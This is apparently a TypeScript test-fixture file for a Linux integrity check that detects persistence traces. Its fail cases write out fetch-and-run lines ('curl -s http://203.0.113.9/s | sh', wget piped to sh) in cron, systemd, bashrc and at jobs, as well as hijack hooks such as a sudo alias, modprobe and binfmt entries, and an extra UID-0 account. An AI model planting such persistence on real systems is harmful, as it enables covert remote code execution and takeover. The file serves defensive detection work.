/** Examples of integrity/no-persistence-traces. */
import type { Script } from '../../facts/linux.ts'
import type { CaseFact, Cases } from '../define.ts'
import { account, file, installed, packaged, program, unit } from '../system-cases.ts'

const cron = (name: string, command: string, enabled = true): CaseFact => ({ kind: 'start-entry', by: 'cron', file: `/etc/cron.d/${name}`, name, user: 'root', command, schedule: '*/10 * * * *', enabled })
const fetches = (path: string, more: Partial<Script> = {}): CaseFact =>
  ({ kind: 'script', file: path, interpreter: 'sh', downloads: [{ line: 2, tool: 'curl', scheme: 'http', insecure: false, url: 'http://203.0.113.9/a' }], runs: [{ line: 3, what: 'runs with sh' }], verifies: [], ...more })
const hook = (event: string, path: string, command: string): CaseFact => ({ kind: 'event-hook', event, name: path.slice(path.lastIndexOf('/') + 1), command, file: path })
const elf = (path: string): CaseFact => ({
  kind: 'elf', file: path, machine: 'aarch64', bits: 64, littleEndian: true, type: 'executable', needed: [], rpath: [], runpath: [], relro: 'none',
  executableStack: 'no', stackProtector: false, fortified: false, fortifiable: false, stripped: true, static: true, runtime: 'go', imports: [],
})

export const cases: Cases = {
  pass: [
    { title: 'ordinary work', facts: [...installed([program('/opt/app/bin/clean')]), cron('app', '/opt/app/bin/clean >/tmp/clean.log 2>&1'), unit('app', '/opt/app/bin/app --pid /run/app.pid')] },
    { title: 'tools in their usual dot directories', facts: [...installed([program('/opt/app/.venv/bin/python'), program('/home/app/.local/bin/app'), program('/opt/app/.git/hooks/pre-commit')]), unit('app', '/opt/app/.venv/bin/python /opt/app/main.py')] },
    { title: 'an update is judged as one', facts: [...installed([program('/opt/app/bin/update.sh')]), unit('app-update', '/opt/app/bin/update.sh'), fetches('/opt/app/bin/update.sh')] },
    { title: 'what events run in the ordinary way', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('log-in', '/etc/profile', '/etc/profile'), hook('log-in', '/root/.bashrc', '/root/.bashrc'), hook('rotated log', '/etc/logrotate.d/app', 'systemctl kill -s HUP app.service'), account('root', 0)] },
    { title: 'a line that does not start', facts: [...installed(), cron('app', '/usr/lib/.x/y', false), unit('app', '/opt/app/bin/app')] },
    { title: 'a script that checks a signature', facts: [...installed(), unit('sync', '/opt/app/bin/sync.sh'), fetches('/opt/app/bin/sync.sh', { verifies: [{ line: 3, how: 'gpgv' }] }), packaged('app', '/opt/app/bin/sync.sh')] },
  ],
  fail: [
    { title: 'cron starts a hidden script: the line and the script', facts: [...installed([program('/usr/lib/.x/run')]), cron('perf', '/usr/lib/.x/run >/dev/null 2>&1'), fetches('/usr/lib/.x/run')], subjects: ['cron perf', '/usr/lib/.x/run'] },
    { title: 'a unit starts something from memory', facts: [...installed(), unit('helper', '/bin/sh /dev/shm/h.sh')], subjects: ['systemd helper.service'] },
    { title: 'a line that fetches and runs', facts: [...installed(), cron('stats', 'wget -qO- http://203.0.113.9/s | sh')], subjects: ['cron stats'] },
    { title: 'the same, as a rule saw it', facts: [...installed(), cron('stats', '$RUN'), { kind: 'pattern', file: '/etc/cron.d/stats', rule: 'fetched-code-run', title: 'Code is fetched and run in one go', excerpt: 'curl -s http://203.0.113.9/s | sh' }], subjects: ['cron stats'] },
    { title: 'a service that fetches and runs code, and is no update', facts: [...installed(), unit('sync', '/opt/app/bin/sync.sh'), fetches('/opt/app/bin/sync.sh')], subjects: ['/opt/app/bin/sync.sh'] },
    { title: 'a hidden program that nothing was seen to start', facts: [...installed([file('/etc/.cfg/agent')]), elf('/etc/.cfg/agent')], subjects: ['/etc/.cfg/agent'] },
    { title: 'a script of the network that fetches and runs code', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('network', '/etc/NetworkManager/dispatcher.d/20-sync', '/etc/NetworkManager/dispatcher.d/20-sync'), fetches('/etc/NetworkManager/dispatcher.d/20-sync')], subjects: ['/etc/NetworkManager/dispatcher.d/20-sync'] },
    { title: 'a unit that fetches before it starts', facts: [...installed(), unit('app', '/opt/app/bin/app'), { kind: 'pattern', file: '/etc/systemd/system/app.service', rule: 'fetched-code-run', title: 'Code is fetched and run in one go', excerpt: 'curl -s http://203.0.113.9/s | sh', where: { artefact: 'image.img', path: '/etc/systemd/system/app.service', line: 5 } }], subjects: ['systemd app.service'] },
    { title: 'a line in a file of log-ins', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('log-in', '/etc/bash.bashrc', '/etc/bash.bashrc'), { kind: 'pattern', file: '/etc/bash.bashrc', rule: 'fetched-code-run', title: 'Code is fetched and run in one go', excerpt: 'curl -s http://203.0.113.9/s | sh', where: { artefact: 'image.img', path: '/etc/bash.bashrc', line: 12 } }], subjects: ['event bash.bashrc'] },
    { title: 'a module in whose place something hidden runs', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('module x', '/etc/modprobe.d/x.conf', '/sbin/modprobe --ignore-install x; /usr/lib/.x/run')], subjects: ['event x.conf'] },
    { title: 'sudo is another program for whoever logs in', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('command replaced', '/home/ada/.bashrc', 'alias sudo=/home/ada/.config/s')], subjects: ['event .bashrc'] },
    { title: 'programs of a kind are run by something hidden', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('programs of the kind x', '/etc/binfmt.d/x.conf', '/usr/lib/.x/run')], subjects: ['event x.conf'] },
    { title: 'a job of at that fetches and runs code', facts: [...installed(), unit('app', '/opt/app/bin/app'), hook('at', '/var/spool/cron/atjobs/a00001019', 'curl -s http://203.0.113.9/s | sh')], subjects: ['event a00001019'] },
    { title: 'a second name of root', facts: [...installed(), unit('app', '/opt/app/bin/app'), account('root', 0), account('sysop', 0)], subjects: ['account sysop'] },
  ],
  unknown: [
    { title: 'no system', facts: [] },
    { title: 'the list of files ended early', facts: installed([], {}, { partial: true }) },
  ],
}
